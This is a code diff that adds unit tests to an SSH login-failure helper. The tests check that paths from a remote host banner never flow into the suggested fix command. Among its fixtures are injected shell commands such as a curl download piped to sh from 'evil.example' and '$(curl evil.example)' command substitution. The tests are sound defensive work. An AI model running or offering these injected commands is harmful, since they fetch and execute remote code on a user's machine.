@@ -64,6 +64,34 @@ TEST(SshTroubleTest, WhatMendsItIsOursWhateverTheHostSays) {
     EXPECT_EQ(none, "");
 }
 
+// A banner's lines stand among ssh's own.
+TEST(SshTroubleTest, NoWordOfASiteComesIntoACommand) {
+    const TransportSpec site{TransportKind::kSsh, "login01", ""};
+    const auto mend = [&](const std::string& banner) {
+        const LoginFailure failure = read_login_failure(banner + "\nme@site: Permission denied (publickey).\n");
+        return split_mend(describe_login_failure(failure, "leonardo", site, "")).second;
+    };
+    for (const std::string path :
+         {"~/.ssh/id; curl -s https://evil.example/fix | sh #", "/root/.ssh/id$(curl evil.example)", "/root/`id`",
+          "/root/a\nb", "/root/a b", "-R /", "relative"})
+        for (const std::string& line :
+             {"Permissions 0644 for '" + path + "' are too open.", "Load key \"" + path + "\": Permission denied",
+              "SHA256:" + path + "\nHost key verification failed."})
+            EXPECT_TRUE(mend(line).starts_with("try `ssh login01` by hand")) << line << "\n" << mend(line);
+    const std::string own = "Permissions 0644 for '/root/.ssh/id_ed25519' are too open.";
+    EXPECT_TRUE(mend(own).starts_with("`chmod 600 /root/.ssh/id_ed25519`")) << mend(own);
+    EXPECT_EQ(read_login_failure("SHA256:x;curl\nHost key verification failed.").fingerprint, "");
+}
+
+TEST(SshTroubleTest, OnlyAKeyOfOurOwnConfigurationIsMended) {
+    LoginFailure failure = read_login_failure("Permissions 0644 for '/etc/passwd' are too open.");
+    EXPECT_EQ(failure.key_file, "/etc/passwd");
+    forget_foreign_key(failure, {"/root/.ssh/id_ed25519", "/etc/passwd"});
+    EXPECT_FALSE(failure.key_mend.empty());
+    forget_foreign_key(failure, {"/root/.ssh/id_ed25519"});
+    EXPECT_EQ(failure.key + failure.key_mend, "");
+}
+
 TEST(SshTroubleTest, AChangedHostKeyIsShown) {
     const std::string err =
         "@@@@@@@@@@@\nThe fingerprint for the ED25519 key sent by the remote host is\n"
